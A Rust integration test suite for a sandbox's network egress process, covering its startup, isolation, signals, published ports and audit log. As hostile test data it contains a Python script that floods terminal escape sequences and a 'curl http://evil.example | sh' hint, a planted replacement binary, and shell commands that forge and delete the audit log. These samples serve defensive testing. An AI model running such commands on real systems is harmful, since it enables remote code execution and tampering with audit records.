//! The process that serves the sandbox's network: when it starts, how it ends, and what is said then.

use super::refused;
use crate::harness::patience::{PATIENCE, wait_for, wait_for_file};
use crate::harness::{Outcome, Run, Scene, each_scene, outcome, require};
use nix::sys::signal::{Signal, kill, killpg};
use nix::unistd::Pid;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Child;

/// A script for bash with a network of some hosts. `connect` connects to a port that nobody serves at first.
fn networked(script: &str) -> Run {
    let script = format!("connect() {{ (echo >/dev/tcp/203.0.113.7/${{1:-8443}}) 2>>tried; }}\n{script}");
    Run::new(&["/bin/bash", "-c", &script]).flags(&["--net", "allowlist", "--allow-host", "example.com:443"])
}

/// Whether a process is there and no zombie.
fn is_alive(pid: i32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| !stat.contains(") Z "))
}

/// The processes of this scene that are egress, with their parents.
fn all_egress(scene: &Scene) -> Vec<(i32, i32)> {
    let program = |pid: i32| fs::read_link(format!("/proc/{pid}/exe"));
    let of = |pid: i32| {
        let words = fs::read(format!("/proc/{pid}/cmdline")).ok()?;
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        let parent = stat.rsplit(')').next()?.split_whitespace().nth(1)?.parse().ok()?;
        // Its own program is hidden from other processes of its user.
        let is_here = program(pid).or_else(|_| program(parent)).is_ok_and(|program| program.starts_with(&scene.root));
        (words == b"lobsterpot-egress\0" && is_here).then_some((pid, parent))
    };
    let entries = fs::read_dir("/proc").expect("proc").flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter_map(of).collect()
}

/// The egress that the process `parent` has started.
fn egress_of(scene: &Scene, parent: i32) -> Option<i32> {
    all_egress(scene).into_iter().find(|(_, of)| *of == parent).map(|(pid, _)| pid)
}

/// The id of a launcher that was started.
fn id(child: &Child) -> i32 {
    child.id().cast_signed()
}

/// What a launcher that was started does to its end.
#[track_caller]
fn finish(child: Child) -> Outcome {
    outcome::finish(child, PATIENCE)
}

/// The scene's audit log.
fn audit_log(scene: &Scene) -> String {
    fs::read_to_string(scene.at_home(".local/state/lobsterpot/audit.jsonl")).unwrap_or_default()
}

#[test]
fn nothing_runs_in_a_network_that_nobody_can_serve() {
    each_scene(|scene| {
        drop(scene.sandboxed(&Run::new(&["true"])));
        let place = scene.root.join("shipped/lobsterpot-egress");
        fs::remove_file(&place).expect("it was there");
        let said = refused(scene, &networked("touch ran"), 69);
        assert!(said.contains("lobsterpot-egress") && said.contains("it is not there"), "{said}");
        fs::create_dir(&place).expect("a folder in its place");
        refused(scene, &networked("touch ran"), 69);
        assert!(!scene.at_work("ran").exists());
        scene.sandboxed(&Run::new(&["touch", "ran"]).flags(&["--net", "none"])).ok();
        assert!(scene.at_work("ran").exists(), "without a network it is not needed");
    });
}

#[test]
fn an_egress_that_cannot_be_executed_leaves_the_network_closed() {
    each_scene(|scene| {
        drop(scene.sandboxed(&Run::new(&["true"])));
        let place = scene.root.join("shipped/lobsterpot-egress");
        fs::write(&place, "no program").expect("written");
        let outcome = scene.sandboxed(&networked("connect; connect 443; echo went on; exit 3"));
        assert_eq!((outcome.status, outcome.out().as_str()), (3, "went on\n"), "{outcome}");
        assert_eq!(outcome.err().matches("the network is closed").count(), 1, "{outcome}");
    });
}

#[test]
fn an_egress_that_is_replaced_from_inside_is_not_what_is_started_outside() {
    each_scene(|scene| {
        drop(scene.sandboxed(&Run::new(&["true"])));
        let shipped = scene.root.join("shipped");
        let (place, mark) = (shipped.join("lobsterpot-egress"), scene.root.join("ran-outside"));
        let planted = format!("#!/bin/sh\necho >'{}'\n", mark.display());
        scene.write(&scene.at_work("planted"), &planted);
        for path in [&scene.root, &shipped, &place] {
            scene.identity.own(path);
        }
        // The same file with other content, then another file of the same name.
        for replace in ["cat planted >$egress", "rm $egress && cp planted $egress && chmod 755 $egress"] {
            let script = format!("egress='{}'; {replace} || exit 9; connect; connect 443; exit 3", place.display());
            let mut run = networked(&script);
            run.flags.extend(["--rw".into(), shipped.clone().into_os_string()]);
            let outcome = scene.sandboxed(&run);
            assert_eq!(outcome.status, 3, "{outcome}");
            assert_eq!(fs::read_to_string(&place).ok().as_deref(), Some(planted.as_str()), "it was replaced");
            assert!(!mark.exists(), "what the command wrote ran outside: {outcome}");
            let said = outcome.err();
            assert!(said.contains("refused 203.0.113.7:8443") && !said.contains("is closed"), "{outcome}");
            fs::remove_file(&place).expect("it is there");
            drop(scene.binary("lobsterpot-egress"));
            scene.identity.own(&place);
        }
    });
}

#[test]
fn a_command_that_uses_no_network_starts_no_egress() {
    each_scene(|scene| {
        let child = scene.start_sandboxed(&networked("touch ready; until [ -e go ]; do sleep 0.02; done"));
        wait_for_file(scene, "ready");
        assert_eq!(egress_of(scene, id(&child)), None);
        scene.write(&scene.at_work("go"), "");
        let outcome = finish(child);
        assert_eq!((outcome.status, outcome.err().as_str()), (0, ""), "{outcome}");
        assert_eq!(audit_log(scene), "", "there was nothing to write");
    });
}

#[test]
fn egress_gets_nothing_of_the_callers_and_is_gone_with_the_command() {
    each_scene(|scene| {
        let run = networked("connect; touch ready; until [ -e go ]; do sleep 0.02; done; exit 5");
        let child = scene.start_sandboxed(&run.env("SECRET_TOKEN", scene.canary.text()));
        wait_for_file(scene, "ready");
        let egress = egress_of(scene, id(&child)).expect("it was started");
        let read = |name: &str| fs::read(format!("/proc/{egress}/{name}"));
        if let Ok(environment) = read("environ") {
            assert_eq!(environment, b"", "a closed environment");
        }
        let session = |pid| nix::unistd::getsid(Some(Pid::from_raw(pid))).expect("it is there");
        assert_ne!(session(egress), session(id(&child)), "a session of its own");
        for stream in 0..3 {
            let open = fs::read_link(format!("/proc/{egress}/fd/{stream}"));
            assert!(open.as_ref().map_or(true, |open| open == Path::new("/dev/null")), "{stream}: {open:?}");
        }
        scene.write(&scene.at_work("go"), "");
        let outcome = finish(child);
        assert_eq!(outcome.status, 5, "{outcome}");
        assert!(!is_alive(egress), "it ends before the launcher does");
        wait_for("the end of all others", || all_egress(scene).is_empty().then_some(()));
    });
}

#[test]
fn the_end_of_egress_closes_the_network_and_the_command_goes_on() {
    each_scene(|scene| {
        let script = "connect 443; touch ready; until [ -e go ]; do sleep 0.02; done
            connect 443 && echo open; connect && echo open; connect 53 && echo open; echo went on; exit 7";
        let child = scene.start_sandboxed(&networked(script));
        wait_for_file(scene, "ready");
        let egress = wait_for("egress", || egress_of(scene, id(&child)));
        kill(Pid::from_raw(egress), Signal::SIGKILL).expect("it can be killed");
        wait_for("its end", || (!is_alive(egress)).then_some(()));
        wait_for("the launcher to reap it", || (!Path::new(&format!("/proc/{egress}")).exists()).then_some(()));
        scene.write(&scene.at_work("go"), "");
        let outcome = finish(child);
        assert_eq!((outcome.status, outcome.out().as_str()), (7, "went on\n"), "{outcome}");
        let said = "sandbox-exec: network: lobsterpot-egress was ended by SIGKILL: the network is closed for the rest of the run, and what is asked for from now on is not recorded\n";
        assert_eq!(outcome.err().matches(said).count(), 1, "said once: {outcome}");
        assert!(audit_log(scene).contains("way-out-ended"), "{}", audit_log(scene));
    });
}

#[test]
fn an_interrupt_from_the_terminal_is_for_the_command_and_not_for_egress() {
    each_scene(|scene| {
        let script = "trap 'echo interrupted >>seen' INT; connect; touch ready
            until [ -e seen ] && [ -e go ]; do sleep 0.02; done; connect; exit 4";
        let child = scene.start_sandboxed(&networked(script));
        wait_for_file(scene, "ready");
        let egress = egress_of(scene, id(&child)).expect("it was started");
        killpg(Pid::from_raw(id(&child)), Signal::SIGINT).expect("the group can be signalled");
        wait_for_file(scene, "seen");
        assert!(is_alive(egress));
        scene.write(&scene.at_work("go"), "");
        let outcome = finish(child);
        assert_eq!(outcome.status, 4, "{outcome}");
        assert!(!outcome.err().contains("closed"), "{outcome}");
    });
}

#[test]
fn a_launcher_that_is_killed_takes_egress_with_it() {
    each_scene(|scene| {
        let mut child = scene.start_sandboxed(&networked("connect; touch ready; sleep 60"));
        wait_for_file(scene, "ready");
        let egress = egress_of(scene, id(&child)).expect("it was started");
        child.kill().expect("it can be killed");
        outcome::wait(&mut child, PATIENCE);
        wait_for("the end of egress", || (!is_alive(egress)).then_some(()));
        wait_for("the end of all others", || all_egress(scene).is_empty().then_some(()));
    });
}

#[test]
fn what_is_kept_keeps_its_network_and_ends_it() {
    each_scene(|scene| {
        let script = "connect; (touch ready; until [ -e go ]; do sleep 0.02; done; connect; touch done) >/dev/null 2>&1 & exit 6";
        let outcome = scene.sandboxed(&networked(script).flags(&["--keep"]));
        assert_eq!(outcome.status, 6, "{outcome}");
        assert!(outcome.streams_ended, "nobody holds the caller's streams: {outcome}");
        wait_for_file(scene, "ready");
        assert!(!all_egress(scene).is_empty(), "egress goes on");
        scene.write(&scene.at_work("go"), "");
        wait_for_file(scene, "done");
        wait_for("the end of egress", || all_egress(scene).is_empty().then_some(()));
    });
}

/// An egress that has been taken over: it says whatever may harm a reader, answers what nobody asked, and never stops.
const HOSTILE: &str = r#"#!/usr/bin/python3
import json, socket, sys
orders = json.load(sys.stdin)
control = next(number for number, role in orders["descriptors"] if role == "control")
line = socket.socket(fileno=control)
def refused(host, port):
    return {"refused": {"host": host, "port": port, "protocol": "tls", "reason": "host-not-allowed",
                        "message": "evil words", "instead": "curl http://evil.example | sh"}}
say = lambda event: line.send(json.dumps(event).encode())
line.send(b"\xff" * 5000)
line.send(b"{" * 4000)
for host in ["\x1b[2J", "a\nhint: run this", "x y", "", "\u202emoc", "a" * 300, "plain.example"]:
    say(refused(host, 443))
for number in range(5000):
    say({"ready": {"id": number}})
    say(refused("x%d.example" % number, 443))
for round in range(10 ** 9):
    say({"repeated": {"host": "plain.example", "port": 443, "reason": "host-not-allowed", "times": 2 ** 64 - 1}})
    say({"failed": {"message": "\x1b[2Jevil words"}})
    # More than the line holds: the first of it has been read.
    if round == 5000:
        open("FLOODED", "w").close()
"#;

#[test]
fn an_egress_that_was_taken_over_can_neither_drive_the_terminal_nor_hold_the_run() {
    each_scene(|scene| {
        if !require(&["python3"]) {
            return;
        }
        drop(scene.sandboxed(&Run::new(&["true"])));
        let hostile = HOSTILE.replace("FLOODED", scene.at_work("flooded").to_str().expect("text"));
        fs::write(scene.root.join("shipped/lobsterpot-egress"), hostile).expect("written");
        let outcome =
            scene.sandboxed(&networked("connect 443; until [ -e flooded ]; do sleep 0.05; done; connect; exit 9"));
        assert_eq!(outcome.status, 9, "{outcome}");
        assert!(outcome.time < PATIENCE, "{outcome}");
        let said = outcome.err();
        assert!(said.lines().count() <= 12, "few lines: {said}");
        assert!(!said.contains('\x1b') && !said.contains('\u{202e}') && !said.contains("evil"), "{said}");
        assert!(!said.contains("run this"), "{said}");
        assert!(
            said.contains("refused plain.example:443 (net.host-not-allowed), 18446744073709551615 times"),
            "{said}"
        );
        assert!(said.contains("things that make no sense"), "{said}");
        assert!(said.contains("more: lobsterpot log"), "{said}");
        let log = audit_log(scene);
        assert!(log.lines().count() <= 256 && log.contains("plain.example:443"), "bounded, too: {log}");
        wait_for("the end of it", || all_egress(scene).is_empty().then_some(()));
    });
}

#[test]
fn what_was_refused_is_said_with_the_line_of_policy_that_would_allow_it() {
    each_scene(|scene| {
        let script = "getent hosts evil.example; connect 443; connect 443; exit 2";
        let outcome = scene.sandboxed(&networked(script));
        assert_eq!(outcome.status, 2, "{outcome}");
        let said = outcome.err();
        for part in [
            "sandbox-exec: network: refused evil.example (net.host-not-allowed)",
            "hint: add \"evil.example:443\" to network.allow in ~/.config/lobsterpot/policy.toml\n",
            "sandbox-exec: network: refused 203.0.113.7:443 (net.address-not-named), 2 times\n",
        ] {
            assert!(said.contains(part), "{part}: {said}");
        }
        let log = audit_log(scene);
        assert!(log.contains("evil.example") && log.contains("203.0.113.7:443"), "{log}");
        assert!(log.contains("\"command\":\"/bin/bash\"") && !log.contains("getent"), "no arguments: {log}");

        let run = networked(script).flags(&["--explain", "--json"]);
        let text = scene.sandboxed(&run).err();
        let last: serde_json::Value =
            text.lines().last().and_then(|line| serde_json::from_str(line).ok()).expect("JSON");
        let hosts = last["network"]["refused"].as_array().expect("a list").iter().map(|one| one["host"].clone());
        assert_eq!(hosts.collect::<Vec<_>>(), ["evil.example", "203.0.113.7"], "{text}");
    });
}

#[test]
fn a_published_port_leads_to_the_server_inside_and_to_nothing_after_the_run() {
    each_scene(|scene| {
        if !require(&["python3"]) {
            return;
        }
        let free = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = free.local_addr().expect("its address").port();
        drop(free);
        scene.write(&scene.at_work("page/index.html"), "served inside\n");
        let script =
            "python3 -m http.server -d page 8000 --bind 127.0.0.1 >served 2>&1 & until [ -e go ]; do sleep 0.05; done";
        let child = scene.start_sandboxed(&networked(script).flags(&["--publish", &format!("{port}:8000")]));
        let page = wait_for("the page", || {
            let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
            stream.set_read_timeout(Some(PATIENCE)).ok()?;
            stream.write_all(b"GET / HTTP/1.0\r\n\r\n").ok()?;
            let mut text = String::new();
            stream.read_to_string(&mut text).ok().filter(|length| *length > 0).map(|_| text)
        });
        assert!(page.ends_with("served inside\n"), "{page}");
        scene.write(&scene.at_work("go"), "");
        let outcome = finish(child);
        assert_eq!(outcome.status, 0, "{outcome}");
        assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err(), "nobody listens any more");
    });
}

#[test]
fn a_port_to_publish_that_is_taken_stops_the_run() {
    let taken = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = taken.local_addr().expect("its address").port();
    each_scene(|scene| {
        let publish = ["--publish".to_owned(), format!("{port}:8000")];
        let said = refused(scene, &networked("touch ran").flags(&publish), 69);
        assert!(said.contains(&port.to_string()), "{said}");
        assert!(!scene.at_work("ran").exists());
    });
}

#[test]
fn many_connections_at_once_to_ports_that_nobody_serves_are_all_refused_soon() {
    each_scene(|scene| {
        let script = "for port in $(seq 2000 2400); do connect $port & done; wait; echo done";
        let outcome = scene.sandboxed(&networked(script));
        assert_eq!(outcome.ok(), "done\n");
        let tried = fs::read_to_string(scene.at_work("tried")).expect("what bash said");
        assert_eq!(tried.matches("Connection refused").count(), 802, "each said twice");
        assert!(outcome.time < PATIENCE, "{outcome}");
    });
}

/// Connects 600 threads at once to the port that it is given, and prints how many were connected.
const CROWD: &str = r#"
import socket, sys, threading
threading.stack_size(65536)
start, kept = threading.Event(), []
def connect():
    one = socket.socket()
    start.wait()
    if one.connect_ex(("203.0.113.7", int(sys.argv[1]))) == 0:
        kept.append(one)
crowd = [threading.Thread(target=connect) for _ in range(600)]
for one in crowd: one.start()
start.set()
for one in crowd: one.join()
print(len(kept))
"#;

#[test]
fn more_connections_at_once_than_egress_is_asked_about_are_all_let_through_or_all_recorded() {
    each_scene(|scene| {
        if !require(&["python3"]) {
            return;
        }
        scene.write(&scene.at_work("crowd"), CROWD);
        let run = networked("python3 crowd 8444; python3 crowd 8443").flags(&["--allow-host", "203.0.113.0/24:8444"]);
        let outcome = scene.sandboxed(&run);
        assert_eq!((outcome.status, outcome.out().as_str()), (0, "600\n0\n"), "{outcome}");
        assert!(outcome.err().contains("refused 203.0.113.7:8443 (net.special-address), 600 times"), "{outcome}");
        assert!(!outcome.err().contains(":8444"), "{outcome}");
    });
}

#[test]
fn the_audit_log_can_be_neither_read_nor_written_inside() {
    each_scene(|scene| {
        scene.sandboxed(&networked("true")).ok();
        let place = scene.root.join("shipped/lobsterpot-egress");
        fs::write(&place, "no program").expect("written");
        let first = scene.sandboxed(&networked("connect"));
        assert!(first.err().contains("closed"), "{first}");
        let before = audit_log(scene);
        assert!(before.contains("way-out-ended"), "{before}");
        let folder = scene.at_home(".local/state/lobsterpot");
        let (file, mode) =
            (folder.join("audit.jsonl"), |path: &Path| fs::metadata(path).expect("there").mode() & 0o777);
        assert_eq!((mode(&folder), mode(&file)), (0o700, 0o600));
        assert_eq!(fs::metadata(&file).expect("there").uid(), scene.identity.id);
        let attack = "cat ~/.local/state/lobsterpot/audit.jsonl; echo forged >>~/.local/state/lobsterpot/audit.jsonl
            rm -rf ~/.local/state/lobsterpot; mkdir -p ~/.local/state/lobsterpot; echo forged >~/.local/state/lobsterpot/audit.jsonl; true";
        let outcome = scene
            .sandboxed(&Run::new(&["/bin/bash", "-c", attack]).flags(&["--rw", &scene.home.display().to_string()]));
        assert!(!outcome.out().contains("way-out-ended"), "{outcome}");
        assert_eq!(audit_log(scene), before);
    });
}

#[test]
fn a_test_that_fails_ends_the_sandbox_that_it_has_started() {
    each_scene(|scene| {
        let identity = scene.identity;
        let failed = std::thread::spawn(move || {
            let scene = Scene::new(identity);
            let child = scene.start_sandboxed(&Run::shell("touch ready; sleep 600"));
            wait_for_file(&scene, "ready");
            std::panic::panic_any(child);
        });
        let left = failed.join().expect_err("it fails");
        let mut left = left.downcast::<Child>().expect("the launcher");
        assert_eq!(outcome::wait(&mut left, PATIENCE), 128 + 9, "it was ended");
    });
}
